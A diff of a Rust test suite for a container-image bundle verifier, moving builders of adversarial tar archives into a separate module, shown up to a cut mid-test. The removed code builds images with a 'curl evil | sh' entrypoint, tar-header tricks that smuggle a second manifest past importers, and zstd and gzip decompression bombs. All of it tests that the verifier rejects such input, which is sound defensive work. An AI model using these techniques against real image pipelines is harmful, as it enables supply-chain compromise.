@@ -10,33 +10,18 @@
 //! that are not numbers, STAR trailers) are written byte by byte with a
 //! correct checksum. Nothing binary is checked in.
 
-use std::io::{Read, Write};
-use std::path::{Path, PathBuf};
+#[path = "adversarial/cases.rs"]
+mod cases;
 
-use serde_json::{Value, json};
+use std::io::Read;
+
+use cases::*;
+use serde_json::json;
 use verify_core::{FindingKind, Limits, Options, Report, Sha256, Verdict, Verifier};
-
-/// The tag the attacker's image would be loaded under.
-const EVIL_TAG: &str = "docker.io/library/alpine:latest";
-const BLOCK: usize = 512;
-/// A fixed modification time for entries written here (2023-11-14).
-const MTIME: u64 = 1_700_000_000;
 
 // ---------------------------------------------------------------------------
 // Running the verifier
 // ---------------------------------------------------------------------------
-
-fn corpus() -> PathBuf {
-    std::env::var_os("AIRLOCK_CORPUS").map_or_else(
-        || Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus"),
-        PathBuf::from,
-    )
-}
-
-fn good(name: &str) -> Vec<u8> {
-    std::fs::read(corpus().join("good").join(name))
-        .expect("the shared corpus (../shared/corpus/good) must be present")
-}
 
 fn verify_with(bytes: &[u8], options: &Options, chunk: usize) -> Report {
     let mut v = Verifier::new(options.clone());
@@ -97,541 +82,6 @@ fn assert_hidden_content_not_believed(r: &Report, case: &str) {
     );
 }
 
-// ---------------------------------------------------------------------------
-// Writing tars
-// ---------------------------------------------------------------------------
-
-fn sha256_hex(data: &[u8]) -> String {
-    Sha256::of(data).to_hex()
-}
-
-fn digest_of(data: &[u8]) -> String {
-    format!("sha256:{}", sha256_hex(data))
-}
-
-fn to_json(v: &Value) -> Vec<u8> {
-    serde_json::to_vec(v).expect("serializable JSON")
-}
-
-fn gzip(data: &[u8]) -> Vec<u8> {
-    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
-    enc.write_all(data).expect("in-memory gzip");
-    enc.finish().expect("in-memory gzip")
-}
-
-/// A ustar header for a regular file of `size` bytes (path set on append).
-fn file_header(size: u64) -> tar::Header {
-    let mut h = tar::Header::new_ustar();
-    h.set_size(size);
-    h.set_mode(0o644);
-    h.set_mtime(MTIME);
-    h.set_cksum();
-    h
-}
-
-fn append_file(b: &mut tar::Builder<Vec<u8>>, path: &str, data: &[u8]) {
-    let mut h = file_header(data.len() as u64);
-    b.append_data(&mut h, path, data).expect("in-memory tar");
-}
-
-/// A tar with the given regular files, end-of-archive blocks included.
-fn tar_of(files: &[(&str, &[u8])]) -> Vec<u8> {
-    let mut b = tar::Builder::new(Vec::new());
-    for (path, data) in files {
-        append_file(&mut b, path, data);
-    }
-    b.into_inner().expect("in-memory tar")
-}
-
-/// PAX extended header records (`"%d %s=%s\n"`, the length counting itself).
-fn pax_body(records: &[(&str, &[u8])]) -> Vec<u8> {
-    let mut body = Vec::new();
-    for (key, value) in records {
-        let rest = key.len() + value.len() + 3; // ' ', '=', '\n'
-        let mut n = rest + 1;
-        while n.to_string().len() + rest != n {
-            n += 1;
-        }
-        body.extend_from_slice(format!("{n} {key}=").as_bytes());
-        body.extend_from_slice(value);
-        body.push(b'\n');
-    }
-    body
-}
-
-/// A PAX header (`x`, or `g` when `global`) for the next entry.
-fn append_pax(b: &mut tar::Builder<Vec<u8>>, global: bool, records: &[(&str, &[u8])]) {
-    let body = pax_body(records);
-    let mut h = tar::Header::new_ustar();
-    h.set_entry_type(if global {
-        tar::EntryType::XGlobalHeader
-    } else {
-        tar::EntryType::XHeader
-    });
-    h.set_path("PaxHeaders/x").expect("short path");
-    h.set_size(body.len() as u64);
-    h.set_mode(0o644);
-    h.set_cksum();
-    b.append(&h, body.as_slice()).expect("in-memory tar");
-}
-
-/// A GNU long name (`L`) entry naming the next entry.
-fn append_gnu_long_name(b: &mut tar::Builder<Vec<u8>>, name: &[u8]) {
-    let mut data = name.to_vec();
-    data.push(0);
-    let mut h = tar::Header::new_gnu();
-    h.set_entry_type(tar::EntryType::GNULongName);
-    h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
-    h.set_size(data.len() as u64);
-    h.set_mode(0o644);
-    h.set_cksum();
-    b.append(&h, data.as_slice()).expect("in-memory tar");
-}
-
-/// A header block written byte by byte, for what `tar::Header` will not write.
-struct RawHeader([u8; BLOCK]);
-
-impl RawHeader {
-    /// A ustar header (`ustar\0`, version `00`) for an entry of `size` bytes,
-    /// laid out as the review's `tarcraft.py` wrote it.
-    fn ustar(name: &[u8], size: u64, typeflag: u8) -> Self {
-        assert!(name.len() <= 100, "the name field holds 100 bytes");
-        let mut b = [0u8; BLOCK];
-        b[..name.len()].copy_from_slice(name);
-        b[100..108].copy_from_slice(b"0000644\0");
-        b[108..116].copy_from_slice(b"0000000\0");
-        b[116..124].copy_from_slice(b"0000000\0");
-        b[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
-        b[136..148].copy_from_slice(b"14540000000\0");
-        b[156] = typeflag;
-        b[257..263].copy_from_slice(b"ustar\0");
-        b[263..265].copy_from_slice(b"00");
-        Self(b)
-    }
-
-    /// The same with the old GNU magic (`ustar ` + ` \0`).
-    fn gnu(name: &[u8], size: u64, typeflag: u8) -> Self {
-        Self::ustar(name, size, typeflag).set(257, b"ustar  \0")
-    }
-
-    /// Overwrites bytes at `at`.
-    fn set(mut self, at: usize, bytes: &[u8]) -> Self {
-        self.0[at..at + bytes.len()].copy_from_slice(bytes);
-        self
-    }
-
-    /// The block with its checksum (`%06o\0 `, the field summed as spaces).
-    fn finish(mut self) -> [u8; BLOCK] {
-        self.0[148..156].fill(b' ');
-        let sum: u32 = self.0.iter().map(|&b| u32::from(b)).sum();
-        self.0[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
-        self.0
-    }
-}
-
-/// Appends a raw header and its data (padded to the block size).
-fn append_raw(b: &mut tar::Builder<Vec<u8>>, header: RawHeader, data: &[u8]) {
-    let block = header.finish();
-    b.append(tar::Header::from_byte_slice(&block), data)
-        .expect("in-memory tar");
-}
-
-/// The archive without its end-of-archive blocks, so entries can be added.
-fn strip_eoa(tar: &[u8]) -> Vec<u8> {
-    let mut end = 0;
-    let mut archive = tar::Archive::new(tar);
-    for entry in archive.entries().expect("corpus tar lists") {
-        let entry = entry.expect("corpus entry");
-        end = entry.raw_file_position() + entry.size().div_ceil(BLOCK as u64) * BLOCK as u64;
-    }
-    tar[..usize::try_from(end).expect("fits in memory")].to_vec()
-}
-
-/// A builder that appends to `base` (a whole tar): the new entries come
-/// after the original ones, before a fresh end-of-archive marker.
-fn extend(base: &[u8]) -> tar::Builder<Vec<u8>> {
-    tar::Builder::new(strip_eoa(base))
-}
-
-/// One entry of a tar, kept whole so the archive can be rewritten.
-struct Member {
-    header: tar::Header,
-    path: String,
-    data: Vec<u8>,
-}
-
-/// A bundle taken apart into its entries, to be edited and written again.
-struct Bundle {
-    members: Vec<Member>,
-}
-
-impl Bundle {
-    fn open(tar: &[u8]) -> Self {
-        let mut archive = tar::Archive::new(tar);
-        let members = archive
-            .entries()
-            .expect("corpus tar lists")
-            .map(|entry| {
-                let mut entry = entry.expect("corpus entry");
-                let path = String::from_utf8_lossy(&entry.path_bytes()).into_owned();
-                let header = entry.header().clone();
-                let mut data = Vec::new();
-                entry.read_to_end(&mut data).expect("corpus entry data");
-                Member { header, path, data }
-            })
-            .collect();
-        Self { members }
-    }
-
-    fn data(&self, path: &str) -> &[u8] {
-        &self
-            .members
-            .iter()
-            .find(|m| m.path == path)
-            .unwrap_or_else(|| panic!("{path} in the bundle"))
-            .data
-    }
-
-    fn json(&self, path: &str) -> Value {
-        serde_json::from_slice(self.data(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
-    }
-
-    /// The JSON blob a `sha256:` digest names.
-    fn blob_json(&self, digest: &Value) -> Value {
-        self.json(&blob_path(digest))
-    }
-
-    /// Replaces a file's content in place, or appends a new file.
-    fn put(&mut self, path: &str, data: Vec<u8>) {
-        if let Some(m) = self.members.iter_mut().find(|m| m.path == path) {
-            m.header.set_size(data.len() as u64);
-            m.header.set_cksum();
-            m.data = data;
-            return;
-        }
-        let mut header = file_header(data.len() as u64);
-        header.set_path(path).expect("short path");
-        header.set_cksum();
-        self.members.push(Member {
-            header,
-            path: path.to_owned(),
-            data,
-        });
-    }
-
-    /// Stores a blob under its digest; returns the digest and size.
-    fn put_blob(&mut self, data: Vec<u8>) -> (String, u64) {
-        let digest = digest_of(&data);
-        let size = data.len() as u64;
-        self.put(&format!("blobs/sha256/{}", sha256_hex(&data)), data);
-        (digest, size)
-    }
-
-    fn remove(&mut self, path: &str) {
-        let before = self.members.len();
-        self.members.retain(|m| m.path != path);
-        assert_eq!(before, self.members.len() + 1, "{path} removed");
-    }
-
-    fn push_symlink(&mut self, path: &str, target: &str) {
-        let mut header = tar::Header::new_ustar();
-        header.set_entry_type(tar::EntryType::Symlink);
-        header.set_path(path).expect("short path");
-        header.set_link_name(target).expect("short link");
-        header.set_size(0);
-        header.set_mode(0o777);
-        header.set_mtime(MTIME);
-        header.set_cksum();
-        self.members.push(Member {
-            header,
-            path: path.to_owned(),
-            data: Vec::new(),
-        });
-    }
-
-    fn tar(&self) -> Vec<u8> {
-        let mut b = tar::Builder::new(Vec::new());
-        for m in &self.members {
-            b.append(&m.header, m.data.as_slice())
-                .expect("in-memory tar");
-        }
-        b.into_inner().expect("in-memory tar")
-    }
-}
-
-fn blob_path(digest: &Value) -> String {
-    let digest = digest.as_str().expect("digest is a string");
-    let hex = digest.strip_prefix("sha256:").expect("sha256 digest");
-    format!("blobs/sha256/{hex}")
-}
-
-/// Points a descriptor at new content.
-fn retarget(desc: &mut Value, (digest, size): (String, u64)) {
-    desc["digest"] = json!(digest);
-    desc["size"] = json!(size);
-}
-
-/// From `docker-save-legacy.tar`: a config like the micro image's (same
-/// diff_ids, so its layers verify) but with the attacker's entrypoint, and a
-/// `manifest.json` that loads it as `alpine:latest`.
-struct EvilDocker {
-    config: Vec<u8>,
-    manifest: Vec<u8>,
-}
-
-fn evil_docker_payload(base: &[u8]) -> EvilDocker {
-    let bundle = Bundle::open(base);
-    let manifest = bundle.json("manifest.json");
-    let micro = manifest
-        .as_array()
-        .and_then(|entries| {
-            entries
-                .iter()
-                .find(|e| e["RepoTags"].to_string().contains("micro"))
-        })
-        .expect("the micro image in docker-save-legacy.tar")
-        .clone();
-    let mut config = bundle.json(micro["Config"].as_str().expect("Config is a path"));
-    config["config"]["Entrypoint"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
-    config["config"]["Env"] = json!(["EVIL=1"]);
-    EvilDocker {
-        config: to_json(&config),
-        manifest: to_json(&json!([{
-            "Config": "evil.json",
-            "RepoTags": [EVIL_TAG],
-            "Layers": micro["Layers"],
-        }])),
-    }
-}
-
-// ---------------------------------------------------------------------------
-// The cases (builders are shared with the chunking check)
-// ---------------------------------------------------------------------------
-
-/// A: a type-NUL entry named `x/` whose "data" is two more tar entries.
-fn case_a() -> Vec<u8> {
-    let base = good("docker-save-legacy.tar");
-    let evil = evil_docker_payload(&base);
-    let hidden = {
-        let mut b = tar::Builder::new(Vec::new());
-        append_file(&mut b, "evil.json", &evil.config);
-        append_file(&mut b, "manifest.json", &evil.manifest);
-        b.get_ref().clone()
-    };
-    let mut b = extend(&base);
-    append_raw(
-        &mut b,
-        RawHeader::ustar(b"x/", hidden.len() as u64, 0),
-        &hidden,
-    );
-    b.into_inner().expect("in-memory tar")
-}
-
-/// A, with the trailing slash coming from a PAX path: Go decides on the
-/// final name, so this is the same directory-with-data.
-fn case_a_pax() -> Vec<u8> {
-    let base = good("docker-save-legacy.tar");
-    let evil = evil_docker_payload(&base);
-    let hidden = {
-        let mut b = tar::Builder::new(Vec::new());
-        append_file(&mut b, "evil.json", &evil.config);
-        append_file(&mut b, "manifest.json", &evil.manifest);
-        b.get_ref().clone()
-    };
-    let mut b = extend(&base);
-    append_pax(&mut b, false, &[("path", b"x/")]);
-    append_raw(
-        &mut b,
-        RawHeader::ustar(b"x", hidden.len() as u64, 0),
-        &hidden,
-    );
-    b.into_inner().expect("in-memory tar")
-}
-
-/// B: a PAX header with `path=` (empty) before an entry named `manifest.json`.
-fn case_b() -> Vec<u8> {
-    let base = good("docker-save-legacy.tar");
-    let evil = evil_docker_payload(&base);
-    let mut b = extend(&base);
-    append_file(&mut b, "evil.json", &evil.config);
-    append_pax(&mut b, false, &[("path", b"")]);
-    append_file(&mut b, "manifest.json", &evil.manifest);
-    b.into_inner().expect("in-memory tar")
-}
-
-/// C: a GNU long name `manifest.json`, then a PAX `path=decoy.json`, then
-/// the entry (ustar name `whatever`) holding the evil manifest.
-fn case_c() -> Vec<u8> {
-    let base = good("docker-save-legacy.tar");
-    let evil = evil_docker_payload(&base);
-    let mut b = extend(&base);
-    append_file(&mut b, "evil.json", &evil.config);
-    append_gnu_long_name(&mut b, b"manifest.json");
-    append_pax(&mut b, false, &[("path", b"decoy.json")]);
-    append_file(&mut b, "whatever", &evil.manifest);
-    b.into_inner().expect("in-memory tar")
-}
-
-/// containerd-export.tar's `app` config with the attacker's entrypoint, and
-/// its blob name (the digest of the original).
-fn evil_containerd_config(base: &[u8]) -> (String, Vec<u8>) {
-    let bundle = Bundle::open(base);
-    let manifest = bundle.json("manifest.json");
-    let config_path = manifest[0]["Config"]
-        .as_str()
-        .expect("Config is a path")
-        .to_owned();
-    let name = config_path
-        .strip_prefix("blobs/sha256/")
-        .expect("OCI blob path")
-        .to_owned();
-    let mut config = bundle.json(&config_path);
-    config["config"]["Entrypoint"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
-    (name, to_json(&config))
-}
-
-/// D1: the evil config stored as `<digest>` with `blobs/sha256` in the
-/// ustar prefix field, under magic `ustar\0` and the given version.
-fn case_d1(version: &[u8; 2]) -> Vec<u8> {
-    let base = good("containerd-export.tar");
-    let (name, evil) = evil_containerd_config(&base);
-    let mut b = extend(&base);
-    let header = RawHeader::ustar(name.as_bytes(), evil.len() as u64, b'0')
-        .set(263, version)
-        .set(345, b"blobs/sha256");
-    append_raw(&mut b, header, &evil);
-    b.into_inner().expect("in-memory tar")
-}
-
-/// D2: the same under a GNU header, `blobs/sha256` filling the atime field.
-fn case_d2() -> Vec<u8> {
-    let base = good("containerd-export.tar");
-    let (name, evil) = evil_containerd_config(&base);
-    let mut b = extend(&base);
-    let header = RawHeader::gnu(name.as_bytes(), evil.len() as u64, b'0').set(345, b"blobs/sha256");
-    append_raw(&mut b, header, &evil);
-    b.into_inner().expect("in-memory tar")
-}
-
-/// E: manifest.json whose micro entry also has `config` and `repotags`.
-fn case_e_both_cases() -> Vec<u8> {
-    let base = good("docker-save-legacy.tar");
-    let evil = evil_docker_payload(&base);
-    let mut bundle = Bundle::open(&base);
-    let text = String::from_utf8(bundle.data("manifest.json").to_vec()).expect("UTF-8");
-    let needle = r#""RepoTags":["localhost/airlock/micro:1.0"]"#;
-    assert_eq!(text.matches(needle).count(), 1, "micro entry in {text}");
-    let text = text.replace(
-        needle,
-        &format!(r#"{needle},"config":"evil.json","repotags":["{EVIL_TAG}"]"#),
-    );
-    bundle.put("manifest.json", text.into_bytes());
-    bundle.put("evil.json", evil.config);
-    bundle.tar()
-}
-
-/// E, second form: an entry whose layers are given as `layers`.
-fn case_e_lowercase_layers() -> Vec<u8> {
-    let base = good("docker-save-legacy.tar");
-    let mut bundle = Bundle::open(&base);
-    let text = String::from_utf8(bundle.data("manifest.json").to_vec()).expect("UTF-8");
-    assert!(text.contains(r#""Layers":"#), "{text}");
-    let text = text.replacen(r#""Layers":"#, r#""layers":"#, 1);
-    bundle.put("manifest.json", text.into_bytes());
-    bundle.tar()
-}
-
-/// podman-oci-archive.tar's index.json, its one manifest and its config.
-struct OciImage {
-    bundle: Bundle,
-    index: Value,
-    manifest: Value,
-    config: Value,
-}
-
-fn podman_oci() -> OciImage {
-    let bundle = Bundle::open(&good("podman-oci-archive.tar"));
-    let index = bundle.json("index.json");
-    let manifest = bundle.blob_json(&index["manifests"][0]["digest"]);
-    let config = bundle.blob_json(&manifest["config"]["digest"]);
-    OciImage {
-        bundle,
-        index,
-        manifest,
-        config,
-    }
-}
-
-impl OciImage {
-    /// Writes config, manifest and index.json back, each pointing at the
-    /// next; the replaced manifest and config blobs are dropped.
-    fn commit(mut self) -> Vec<u8> {
-        let old_manifest = blob_path(&self.index["manifests"][0]["digest"]);
-        let old_config = blob_path(&self.manifest["config"]["digest"]);
-        let config = self.bundle.put_blob(to_json(&self.config));
-        retarget(&mut self.manifest["config"], config);
-        let manifest = self.bundle.put_blob(to_json(&self.manifest));
-        retarget(&mut self.index["manifests"][0], manifest);
-        self.bundle.put("index.json", to_json(&self.index));
-        let new_manifest = blob_path(&self.index["manifests"][0]["digest"]);
-        let new_config = blob_path(&self.manifest["config"]["digest"]);
-        for (old, new) in [(old_manifest, new_manifest), (old_config, new_config)] {
-            if old != new {
-                self.bundle.remove(&old);
-            }
-        }
-        self.bundle.tar()
-    }
-}
-
-/// F: every top-level index.json entry marked as a BuildKit attestation and
-/// named `alpine:latest` for containerd.
-fn case_f(break_diff_id: bool) -> Vec<u8> {
-    let mut image = podman_oci();
-    for desc in image.index["manifests"]
-        .as_array_mut()
-        .expect("manifests list")
-    {
-        desc["annotations"]["vnd.docker.reference.type"] = json!("attestation-manifest");
-        desc["annotations"]["io.containerd.image.name"] = json!(EVIL_TAG);
-    }
-    if break_diff_id {
-        image.config["rootfs"]["diff_ids"][0] = json!(digest_of(b"not the layer"));
-    }
-    image.commit()
-}
-
-/// N: the micro image's second layer digest A is a symlink to another blob B
-/// whose bytes the config's diff_id describes.
-fn case_n() -> Vec<u8> {
-    let mut image = podman_oci();
-    let raw = tar_of(&[("etc/evil", b"evil\n")]);
-    let gz = gzip(&raw);
-    let a = blob_path(&image.manifest["layers"][1]["digest"]);
-    image.manifest["layers"][1]["size"] = json!(gz.len());
-    image.config["rootfs"]["diff_ids"][1] = json!(digest_of(&raw));
-    image.bundle.remove(&a);
-    let (b, _) = image.bundle.put_blob(gz);
-    let b_hex = b.trim_start_matches("sha256:").to_owned();
-    image.bundle.push_symlink(&a, &b_hex);
-    image.commit()
-}
-
-/// O: a good bundle, then `zeros` bytes of zeros, all in one gzip stream.
-fn case_o(zeros: usize) -> Vec<u8> {
-    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
-    enc.write_all(&good("podman-oci-archive.tar"))
-        .expect("in-memory gzip");
-    let chunk = vec![0u8; 1 << 20];
-    let mut left = zeros;
-    while left > 0 {
-        let n = left.min(chunk.len());
-        enc.write_all(&chunk[..n]).expect("in-memory gzip");
-        left -= n;
-    }
-    enc.finish().expect("in-memory gzip")
-}
-
 /// Limits under which a few MiB of zeros are already a bomb.
 fn tight_ratio() -> Options {
     Options {
@@ -642,141 +92,6 @@ fn tight_ratio() -> Options {
         },
         ..Options::default()
     }
-}
-
-/// RLE blocks in the bomb: 70 000 x 128 KiB is 8.5 GiB of output from
-/// 280 KB of input, so a decoder that buffers a whole input chunk's output
-/// would abort the test.
-const RLE_BLOCKS: usize = 70_000;
-const RLE_BLOCK_BYTES: u32 = 128 << 10;
-
-/// A zstd frame of `blocks` RLE blocks, each 4 bytes claiming 128 KiB of zeros.
-fn zstd_rle_bomb(blocks: usize) -> Vec<u8> {
-    let mut frame = vec![0x28, 0xb5, 0x2f, 0xfd];
-    // Frame header descriptor: no content size, not single-segment, no
-    // checksum, no dictionary; then the window descriptor: 2^(10+7) = 128 KiB.
-    frame.extend_from_slice(&[0x00, 7 << 3]);
-    for i in 0..blocks {
-        let last = u32::from(i + 1 == blocks);
-        let header = last | (1 << 1) | (RLE_BLOCK_BYTES << 3); // type 1: RLE
-        frame.extend_from_slice(&header.to_le_bytes()[..3]);
-        frame.push(0);
-    }
-    frame
-}
-
-/// Q, second form: the bomb as the micro image's second layer.
-fn case_q_layer() -> Vec<u8> {
-    let mut image = podman_oci();
-    let old = blob_path(&image.manifest["layers"][1]["digest"]);
-    image.bundle.remove(&old);
-    let layer = image.bundle.put_blob(zstd_rle_bomb(RLE_BLOCKS));
-    let desc = &mut image.manifest["layers"][1];
-    desc["mediaType"] = json!("application/vnd.oci.image.layer.v1.tar+zstd");
-    retarget(desc, layer);
-    image.commit()
-}
-
-/// K: a docker-archive bundle (`<id>/layer.tar`, `<config>.json`,
-/// `manifest.json`) as `legit_configs.py` builds it.
-fn docker_archive(config: &Value, layers: &[Vec<u8>]) -> Vec<u8> {
-    let config = to_json(config);
-    let config_name = format!("{}.json", sha256_hex(&config));
-    let layer_names: Vec<String> = layers
-        .iter()
-        .map(|l| format!("{}/layer.tar", sha256_hex(l)))
-        .collect();
-    let manifest = to_json(&json!([{
-        "Config": config_name,
-        "RepoTags": ["example.com/app:1"],
-        "Layers": layer_names,
-    }]));
-    let mut files: Vec<(&str, &[u8])> = layer_names
-        .iter()
-        .map(String::as_str)
-        .zip(layers.iter().map(Vec::as_slice))
-        .collect();
-    files.push((&config_name, &config));
-    files.push(("manifest.json", &manifest));
-    tar_of(&files)
-}
-
-fn hello_layer() -> Vec<u8> {
-    tar_of(&[("hello.txt", b"hi\n")])
-}
-
-/// The config shape Docker (classic builder, 20.10) writes, nulls included.
-fn classic_config(layer: &[u8]) -> Value {
-    json!({
-        "architecture": "amd64", "os": "linux", "created": "2023-11-14T22:13:20.000000000Z",
-        "docker_version": "20.10.24",
-        "config": {
-            "Hostname": "", "Domainname": "", "User": "", "AttachStdin": false, "Tty": false,
-            "ExposedPorts": {"80/tcp": {}}, "Env": ["PATH=/bin"], "Cmd": ["/bin/sh"],
-            "Healthcheck": {"Test": ["CMD", "true"], "Interval": 30_000_000_000_u64},
-            "ArgsEscaped": true, "Image": format!("sha256:{}", "0".repeat(64)),
-            "Volumes": {"/data": {}}, "WorkingDir": "", "Entrypoint": null,
-            "OnBuild": null, "Labels": null,
-        },
-        "container_config": {
-            "Cmd": ["/bin/sh", "-c", "#(nop) ", "CMD [\"/bin/sh\"]"],
-            "Volumes": null, "OnBuild": null, "Labels": {},
-        },
-        "history": [
-            {"created": "2023-11-14T22:13:20Z", "created_by": "/bin/sh -c #(nop) ADD file:x in / "},
-            {"created": "2023-11-14T22:13:20Z", "created_by": "/bin/sh -c #(nop)  CMD [\"/bin/sh\"]",
-             "empty_layer": true},
-        ],
-        "rootfs": {"type": "layers", "diff_ids": [digest_of(layer)]},
-    })
-}
-
-fn case_k1() -> Vec<u8> {
-    let layer = hello_layer();
-    docker_archive(&classic_config(&layer), &[layer])
-}
-
-/// M: containerd-export.tar reshaped as a 2-platform image index, with
-/// manifest.json listing only the first platform (as containerd's exporter
-/// writes it).
-fn case_m() -> Vec<u8> {
-    let mut bundle = Bundle::open(&good("containerd-export.tar"));
-    let index = bundle.json("index.json");
-    let manifest_json = bundle.json("manifest.json");
-    let platforms = [
-        json!({"architecture": "amd64", "os": "linux"}),
-        json!({"architecture": "arm64", "os": "linux"}),
-    ];
-    let children: Vec<Value> = index["manifests"]
-        .as_array()
-        .expect("manifests list")
-        .iter()
-        .zip(platforms)
-        .map(|(d, platform)| {
-            json!({
-                "mediaType": d["mediaType"], "digest": d["digest"], "size": d["size"],
-                "platform": platform,
-            })
-        })
-        .collect();
-    let (digest, size) = bundle.put_blob(to_json(&json!({
-        "schemaVersion": 2,
-        "mediaType": "application/vnd.oci.image.index.v1+json",
-        "manifests": children,
-    })));
-    bundle.put(
-        "index.json",
-        to_json(&json!({"schemaVersion": 2, "manifests": [{
-            "mediaType": "application/vnd.oci.image.index.v1+json",
-            "digest": digest, "size": size,
-            "annotations": {
-                "io.containerd.image.name": "localhost/airlock/app:1.0",
-                "org.opencontainers.image.ref.name": "1.0",
-            },
-        }]})),
-    );
-    bundle.put("manifest.json", to_json(&json!([manifest_json[0]])));
-    bundle.tar()
 }
 
 // ---------------------------------------------------------------------------
@@ -821,13 +136,7 @@ fn b_empty_pax_path_keeps_the_ustar_name() {
 /// It must fail instead (a second `manifest.json`, or an invalid header).
 #[test]
 fn b2_empty_gnu_long_name_keeps_the_ustar_name() {
-    let base = good("docker-save-legacy.tar");
-    let evil = evil_docker_payload(&base);
-    let mut b = extend(&base);
-    append_file(&mut b, "evil.json", &evil.config);
-    append_gnu_long_name(&mut b, b"");
-    append_file(&mut b, "manifest.json", &evil.manifest);
-    let r = verify(&b.into_inner().expect("in-memory tar"));
+    let r = verify(&case_b2());
     assert_eq!(r.verdict, Verdict::Fail, "B2: {:?}", kind_names(&r));
     assert_hidden_content_not_believed(&r, "B2");
 }
@@ -853,19 +162,8 @@ fn c_gnu_long_name_and_pax_path_together() {
 /// an unreferenced blob: verdict ok. It must fail.
 #[test]
 fn c2_pending_name_does_not_survive_a_global_header() {
-    let base = good("docker-save-legacy.tar");
-    let evil = evil_docker_payload(&base);
     for gnu in [true, false] {
-        let mut b = extend(&base);
-        append_file(&mut b, "evil.json", &evil.config);
-        if gnu {
-            append_gnu_long_name(&mut b, b"junk/decoy");
-        } else {
-            append_pax(&mut b, false, &[("path", b"junk/decoy")]);
-        }
-        append_pax(&mut b, true, &[("comment", b"hi")]);
-        append_file(&mut b, "manifest.json", &evil.manifest);
-        let r = verify(&b.into_inner().expect("in-memory tar"));
+        let r = verify(&case_c2(gnu));
         let case = if gnu { "C2 (GNU)" } else { "C2 (PAX)" };
         assert_eq!(r.verdict, Verdict::Fail, "{case}: {:?}", kind_names(&r));
         assert_hidden_content_not_believed(&r, case);
@@ -908,18 +206,7 @@ fn d2_gnu_header_with_text_in_the_time_fields() {
 /// Readers disagree on the name, so it must be `tar-header-invalid`.
 #[test]
 fn d3_star_trailer_shortens_the_prefix_for_go() {
-    let base = good("docker-save-legacy.tar");
-    let evil = evil_docker_payload(&base);
-    let mut prefix = b"./".repeat(66);
-    prefix.truncate(131);
-    prefix.extend_from_slice(&[b'0'; 24]);
-    let mut b = extend(&base);
-    append_file(&mut b, "evil.json", &evil.config);
-    let header = RawHeader::ustar(b"manifest.json", evil.manifest.len() as u64, b'0')
-        .set(345, &prefix)
-        .set(508, b"tar\0");
-    append_raw(&mut b, header, &evil.manifest);
-    let r = verify(&b.into_inner().expect("in-memory tar"));
+    let r = verify(&case_d3());
     assert_fails_with(&r, FindingKind::TarHeaderInvalid, "D3");
 }
 
@@ -933,17 +220,7 @@ fn d3_star_trailer_shortens_the_prefix_for_go() {
 /// name is reader-dependent: it must be `tar-header-invalid`.
 #[test]
 fn d4_gnu_time_field_with_inner_spaces() {
-    let mut bundle = Bundle::open(&good("docker-save-legacy.tar"));
-    let manifest = bundle.data("manifest.json").to_vec();
-    bundle.remove("manifest.json");
-    let mut b = tar::Builder::new(Vec::new());
-    for m in &bundle.members {
-        b.append(&m.header, m.data.as_slice())
-            .expect("in-memory tar");
-    }
-    let header = RawHeader::gnu(b"manifest.json", manifest.len() as u64, b'0').set(345, b"0 0");
-    append_raw(&mut b, header, &manifest);
-    let r = verify(&b.into_inner().expect("in-memory tar"));
+    let r = verify(&case_d4());
     assert_fails_with(&r, FindingKind::TarHeaderInvalid, "D4");
 }
 
@@ -1076,11 +353,7 @@ fn i_deep_paths_hit_the_name_limits() {
 #[test]
 fn j_thousands_of_unreferenced_entries_keep_every_finding() {
     const JUNK: usize = 5_000;
-    let mut b = extend(&good("podman-oci-archive.tar"));
-    for i in 0..JUNK {
-        append_file(&mut b, &format!("junk/{i:07}"), b"");
-    }
-    let bytes = b.into_inner().expect("in-memory tar");
+    let bytes = case_j(JUNK);
     let options = Options {
         expected_sha256: Some(Sha256::of(&bytes)),
         ..Options::default()
@@ -1115,20 +388,11 @@ fn k_real_docker_config_shapes_verify() {
     assert_eq!(r.images[0].platform.as_deref(), Some("linux/amd64"));
     assert_eq!(r.images[0].repo_tags, ["example.com/app:1"]);
 
-    let mut zero = classic_config(b""); // its diff_ids are dropped below
-    zero["rootfs"] = json!({"type": "layers"});
-    zero["history"] = json!([{
-        "created": "2023-11-14T22:13:20Z", "created_by": "LABEL a=b", "empty_layer": true,
-    }]);
-    let r = verify(&docker_archive(&zero, &[]));
+    let r = verify(&case_k2());
     assert_ok(&r, "K2");
     assert!(r.images[0].layers.is_empty());
 
-    let layer = hello_layer();
-    let mut null_volumes = classic_config(&layer);
-    null_volumes["config"]["Volumes"] = Value::Null;
-    null_volumes["config"]["ExposedPorts"] = Value::Null;
-    let r = verify(&docker_archive(&null_volumes, &[layer]));
+    let r = verify(&case_k3());
     assert_ok(&r, "K3");
 }
 
@@ -1231,5 +495,51 @@ fn reports_do_not_depend_on_chunking() {
                 .expect("report serializes");
             assert_eq!(whole, split, "{case} fed in {chunk}-byte pieces");
         }
+    }
+}
+
+/// Issue #6's shapes, with the verdicts the differential test
+/// (`crates/native-cli/tests/differential.rs`) checks against the real
+/// importers: a second `manifest.json` or a second copy of a blob is a
+/// duplicate (Go readers let the last copy win, others the first); entries
+/// after the end-of-archive marker, which Go never reads, are trailing
+/// data; uppercase hex is not a digest (go-digest refuses it) and sha512
+/// is not supported. Shared and hard-linked layers, pretty-printed JSON and
+/// an empty layer file are what docker and podman load as reported.
+#[test]
+fn differential_shapes_from_issue_6() {
+    for (case, bytes, kind) in [
+        (
+            "dup-manifest",
+            case_duplicate_manifest(),
+            FindingKind::DuplicateEntry,
+        ),
+        (
+            "dup-blob",
+            case_duplicate_blob(),
+            FindingKind::DuplicateEntry,
+        ),
+        ("after-eoa", case_after_eoa(), FindingKind::TrailingData),
+        (
+            "sha512-manifest",
+            case_sha512_manifest(),
+            FindingKind::UnsupportedDigest,
+        ),
+    ] {
+        let r = verify(&bytes);
+        assert_fails_with(&r, kind, case);
+        assert_hidden_content_not_believed(&r, case);
+    }
+    let r = verify(&case_uppercase_digest());
+    assert_eq!(r.verdict, Verdict::Fail, "uppercase: {:?}", kind_names(&r));
